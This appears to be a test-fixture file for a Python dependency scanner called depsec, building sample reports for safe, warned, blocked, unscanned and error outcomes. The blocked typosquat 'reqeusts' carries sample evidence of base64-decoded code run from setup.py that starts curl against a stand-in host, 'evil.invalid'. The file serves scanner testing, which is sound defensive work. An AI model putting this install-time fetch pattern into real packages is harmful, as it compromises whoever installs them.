import type { Finding } from '../../src/model/finding.js';
import type { PackageReport, Report, Verdict } from '../../src/model/report.js';
import type { RuleDoc } from '../../src/model/rule.js';
import { orderReport } from '../../src/report/order.js';

/** Reports as a run would make them, one for each kind of outcome. Names and hosts are made up or harmless. */

export const SAMPLE_RULES: readonly RuleDoc[] = [
  {
    id: 'look-alike-name',
    title: 'Name looks like a popular project',
    why: 'A name one slip away from a popular one is how most malicious packages get installed.',
    remedy: 'Check the spelling against the project you meant.',
    example: 'reqeusts',
    technique: 'T1195.002',
  },
  {
    id: 'decoded-code-at-install',
    title: 'Decoded text is executed during installation',
    why: 'Honest packages have no reason to hide what their setup.py does.',
    remedy: 'Do not install it; report it to the index.',
    example: "exec(b64decode('cHJpbnQoMSk='))  # items[0] of {steps}",
    technique: 'T1027',
  },
  {
    id: 'known-vulnerability',
    title: 'An advisory names this version',
    why: 'The flaw is public, and so are often the means to use it.',
    remedy: 'Take a version that holds the fix.',
    example: 'jinja2==3.1.2',
  },
];

/** A safe package without findings, to be changed by `fields`. */
export function samplePackage(
  name: string,
  version: string,
  fields: Partial<PackageReport> = {},
): PackageReport {
  const filename = `${name}-${version}-py3-none-any.whl`;
  return {
    name,
    version,
    verdict: 'safe',
    score: 0,
    scope: 'runtime',
    decision: { by: 'score' },
    requiredBy: [{ file: 'requirements.txt', line: 1, path: [name] }],
    artifacts: [
      {
        filename,
        sha256: 'ab'.repeat(32),
        url: `https://index.invalid/files/${filename}`,
        size: 12345,
        built: false,
      },
    ],
    unscanned: [],
    findings: [],
    ...fields,
  };
}

/** A report of these packages, with verdict and counts that fit, to be changed by `fields`. */
export function sampleReport(packages: readonly PackageReport[], fields: Partial<Report> = {}): Report {
  const count = (verdict: Verdict): number => packages.filter((entry) => entry.verdict === verdict).length;
  const worst = (['blocked', 'unscanned', 'warned'] as const).find((verdict) => count(verdict) > 0);
  return orderReport({
    schemaVersion: 1,
    tool: { name: 'depsec', version: '0.1.0', rules: '1' },
    environment: { python: '3.12.4', pip: '26.3', platform: 'linux-x86_64', source: 'PATH' },
    verdict: worst ?? 'safe',
    counts: {
      safe: count('safe'),
      warned: count('warned'),
      blocked: count('blocked'),
      unscanned: count('unscanned'),
    },
    incomplete: [],
    skipped: [{ tier: 3, reason: 'no ANTHROPIC_API_KEY' }],
    notes: [],
    packages,
    ...fields,
  });
}

const throughFlask = (name: string): PackageReport['requiredBy'] => [
  { file: 'requirements.txt', line: 1, path: ['flask', name] },
];

const HONEST: readonly PackageReport[] = [
  samplePackage('flask', '3.0.0'),
  samplePackage('werkzeug', '3.0.1', {
    requiredBy: throughFlask('werkzeug'),
    score: 0.2,
    findings: [
      {
        rule: 'process-start',
        tier: 2,
        severity: 'LOW',
        score: 0.2,
        title: 'Starts other programs',
        message: 'Calls subprocess.call',
        artifact: 'werkzeug-3.0.1-py3-none-any.whl',
        file: 'werkzeug/_reloader.py',
        line: 277,
        evidence: 'exit_code = subprocess.call(args, env=new_environ, close_fds=False)',
        reach: 'call',
        references: [],
      },
    ],
  }),
  samplePackage('jinja2', '3.1.4', { requiredBy: throughFlask('jinja2') }),
  samplePackage('itsdangerous', '2.1.2', { requiredBy: throughFlask('itsdangerous') }),
  samplePackage('click', '8.1.7', { requiredBy: throughFlask('click') }),
  samplePackage('blinker', '1.7.0', { requiredBy: throughFlask('blinker') }),
  samplePackage('markupsafe', '2.1.3', {
    requiredBy: [{ file: 'requirements.txt', line: 1, path: ['flask', 'jinja2', 'markupsafe'] }],
  }),
  samplePackage('idna', '3.6', { requiredBy: [{ path: ['idna'] }] }),
  samplePackage('setuptools', '69.0.3', {
    scope: 'build',
    requiredBy: [{ file: 'requirements.txt', line: 3, path: ['reqeusts', 'setuptools'] }],
  }),
];

const TYPOSQUAT_FINDINGS: readonly Finding[] = [
  {
    rule: 'decoded-code-at-install',
    tier: 2,
    severity: 'CRITICAL',
    score: 0.9,
    title: 'Decoded text is executed during installation',
    message: 'setup.py runs text it has decoded: subprocess.Popen, base64.b64decode',
    artifact: 'reqeusts-1.0.0.tar.gz',
    file: 'setup.py',
    line: 4,
    evidence: "exec(base64.b64decode('c3VicHJvY2Vzcy5Qb3Blbi4uLg=='))",
    reach: 'install',
    technique: 'T1027',
    chain: [
      { file: 'setup.py', line: 4, layer: 0, text: 'decodes 1 layer (base64)' },
      {
        file: 'setup.py',
        line: 4,
        layer: 0,
        text: 'executes the result',
        decoded: 'import subprocess\nsubprocess.Popen(["curl", "https://evil.invalid/x"])',
      },
      { file: 'setup.py', line: 2, layer: 1, text: 'starts curl https://evil.invalid/x' },
    ],
    references: [],
  },
  {
    rule: 'look-alike-name',
    tier: 1,
    severity: 'HIGH',
    score: 0.7,
    title: 'Name looks like a popular project',
    message: "Typosquat of 'requests' (distance: 1)",
    technique: 'T1195.002',
    references: [],
  },
  {
    rule: 'no-home-page',
    tier: 1,
    severity: 'LOW',
    score: 0.2,
    title: 'Names no home page or repository',
    message: 'Neither a home page nor a repository is named',
    references: [],
  },
];

const typosquat = samplePackage('reqeusts', '1.0.0', {
  verdict: 'blocked',
  score: 0.9,
  requiredBy: [{ file: 'requirements.txt', line: 3, path: ['reqeusts'] }],
  artifacts: [
    {
      filename: 'reqeusts-1.0.0.tar.gz',
      sha256: 'cd'.repeat(32),
      url: 'https://index.invalid/files/reqeusts-1.0.0.tar.gz',
      size: 2048,
      built: false,
    },
  ],
  findings: TYPOSQUAT_FINDINGS,
});

const VULNERABLE: Finding = {
  rule: 'known-vulnerability',
  tier: 1,
  severity: 'MEDIUM',
  score: 0.5,
  title: 'An advisory names this version',
  message: 'Sandbox breakout through indirect reference to the format method (>=0, <3.1.5)',
  advisory: { id: 'GHSA-q2x7-8rv6-6q7h', aliases: ['CVE-2024-56326'], fixed: ['3.1.5'] },
  references: ['https://advisories.invalid/GHSA-q2x7-8rv6-6q7h'],
};

const warned = samplePackage('jinja2', '3.1.4', {
  verdict: 'warned',
  score: 0.5,
  requiredBy: [
    { file: 'requirements.txt', line: 1, path: ['flask', 'jinja2'] },
    { file: 'docs/requirements.txt', line: 7, path: ['jinja2'] },
  ],
  findings: [VULNERABLE],
});

const unscanned = samplePackage('lzip', '0.4', {
  verdict: 'unscanned',
  requiredBy: [{ file: 'requirements.txt', line: 5, path: ['lzip'] }],
  unscanned: [
    {
      artifact: 'lzip-0.4.tar.bz2',
      code: 'unsupported-compression',
      reason: 'The archive is compressed with bzip2, which depsec does not read',
    },
    {
      artifact: 'lzip-0.4-py3-none-any.whl',
      file: 'lzip/tables.py',
      code: 'too-deep',
      reason: 'Nested deeper than 1000 levels',
    },
  ],
});

const accepted = { reason: 'not reachable: templates are ours', expires: '2027-01-31' };

const others = HONEST.filter(({ name }) => name !== 'jinja2');

type Outcome =
  | 'all safe'
  | 'a blocked look-alike among honest ones'
  | 'an unscanned package'
  | 'advisories did not answer'
  | 'an error only'
  | 'ignored findings and lists';

export const SAMPLE_REPORTS: Readonly<Record<Outcome, Report>> = {
  'all safe': sampleReport(HONEST),
  'a blocked look-alike among honest ones': sampleReport([...others, warned, typosquat]),
  'an unscanned package': sampleReport([...HONEST.slice(0, 2), unscanned]),
  'advisories did not answer': sampleReport(HONEST.slice(0, 3), {
    incomplete: [{ source: 'osv', reason: 'no answer within 10 s' }],
    notes: ['requirements.txt:2: --trusted-host was left out'],
  }),
  'an error only': sampleReport([], {
    skipped: [],
    error: {
      code: 'requirements-syntax',
      what: 'requirements.txt:3: expected a requirement, got "flask = 3.0".',
      why: 'pip would refuse the file too, so nothing can be resolved.',
      fix: 'Write "flask==3.0".',
    },
  }),
  'ignored findings and lists': sampleReport([
    {
      ...warned,
      verdict: 'safe',
      score: 0,
      decision: { by: 'ignore', reason: accepted.reason },
      findings: [{ ...VULNERABLE, ignored: accepted }],
    },
    samplePackage('flask', '3.0.0', {
      decision: { by: 'allowlist', reason: 'The package is on the allow list.' },
    }),
    samplePackage('colourama', '0.1.6', {
      verdict: 'blocked',
      score: 0.9,
      requiredBy: [{ path: ['colourama'] }],
      decision: { by: 'denylist', reason: 'The package is on the deny list.' },
    }),
  ]),
};
